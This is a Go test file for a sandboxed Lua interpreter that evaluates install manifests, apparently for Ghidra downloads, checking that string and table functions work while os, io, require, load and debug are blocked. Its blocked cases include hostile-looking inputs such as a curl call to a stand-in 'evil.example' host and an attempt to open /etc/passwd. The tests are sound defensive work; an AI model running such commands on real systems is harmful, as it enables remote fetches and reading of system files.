package config

import (
	"strings"
	"testing"

	lua "github.com/yuin/gopher-lua"
)

func TestSandboxedVM_BlockedGlobals(t *testing.T) {
	tests := []struct {
		name    string
		code    string
		wantErr bool
		errMsg  string
	}{
		// Safe operations that should work
		{
			name:    "string operations allowed",
			code:    `url = string.format("https://example.com/ghidra_%s.zip", "11.4.2")`,
			wantErr: false,
		},
		{
			name:    "table operations allowed",
			code:    `launchers = {"ghidraRun"}; table.insert(launchers, "support/launch.sh")`,
			wantErr: false,
		},
		{
			name:    "math operations allowed",
			code:    `x = math.max(11, 10)`,
			wantErr: false,
		},
		{
			name:    "basic functions allowed",
			code:    `x = type("hello"); y = tostring(123); z = tonumber("456")`,
			wantErr: false,
		},
		{
			name:    "pairs and ipairs allowed",
			code:    `t = {a=1, b=2}; for k,v in pairs(t) do end`,
			wantErr: false,
		},

		// Dangerous operations that should fail
		{
			name:    "os.execute blocked",
			code:    `os.execute("curl https://evil.example")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "os.getenv blocked",
			code:    `x = os.getenv("HOME")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "io.open blocked",
			code:    `f = io.open("/etc/passwd")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "io.popen blocked",
			code:    `f = io.popen("uname")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "require blocked",
			code:    `socket = require("socket")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "dofile blocked",
			code:    `dofile("/tmp/evil.lua")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "loadfile blocked",
			code:    `f = loadfile("/tmp/evil.lua")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "load blocked",
			code:    `f = load("return 1+1")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "loadstring blocked",
			code:    `f = loadstring("return 1+1")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "debug blocked",
			code:    `debug.getinfo(1)`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			L := newSandboxedVM()
			defer L.Close()

			err := L.DoString(tt.code)
			if (err != nil) != tt.wantErr {
				t.Errorf("sandboxed VM with code %q: error = %v, wantErr %v", tt.code, err, tt.wantErr)
				return
			}

			if tt.wantErr && err != nil && tt.errMsg != "" {
				if !strings.Contains(err.Error(), tt.errMsg) {
					t.Errorf("sandboxed VM with code %q: error = %v, want substring %q", tt.code, err, tt.errMsg)
				}
			}
		})
	}
}

// Manifests build URLs and pick launcher lists with the string and table
// libraries; make sure those survive the sandbox intact.
func TestSandboxedVM_ManifestIdioms(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	code := `
		version = "11.4.2"
		base = "https://github.com/NationalSecurityAgency/ghidra/releases/download"
		url = string.format("%s/Ghidra_%s_build/ghidra_%s_PUBLIC.zip", base, version, version)

		launchers = {"ghidraRun"}
		table.insert(launchers, "support/launch.sh")
		launcher_count = #launchers

		digest = string.lower("B3D588E16EC1")
	`

	if err := L.DoString(code); err != nil {
		t.Fatalf("manifest idioms failed: %v", err)
	}

	url := L.GetGlobal("url").String()
	want := "https://github.com/NationalSecurityAgency/ghidra/releases/download/Ghidra_11.4.2_build/ghidra_11.4.2_PUBLIC.zip"
	if url != want {
		t.Errorf("built url = %s, want %s", url, want)
	}

	count := L.GetGlobal("launcher_count")
	if count.Type() != lua.LTNumber || lua.LVAsNumber(count) != 2 {
		t.Errorf("launcher_count = %v, want 2", count)
	}

	digest := L.GetGlobal("digest").String()
	if digest != "b3d588e16ec1" {
		t.Errorf("string.lower = %s, want b3d588e16ec1", digest)
	}
}

func TestNewSandboxedVM(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	// Verify it's sandboxed by checking os is nil
	os := L.GetGlobal("os")
	if os.Type() != lua.LTNil {
		t.Errorf("newSandboxedVM() os = %v, want nil", os.Type())
	}

	// Verify string is available
	str := L.GetGlobal("string")
	if str.Type() != lua.LTTable {
		t.Errorf("newSandboxedVM() string = %v, want table", str.Type())
	}
}
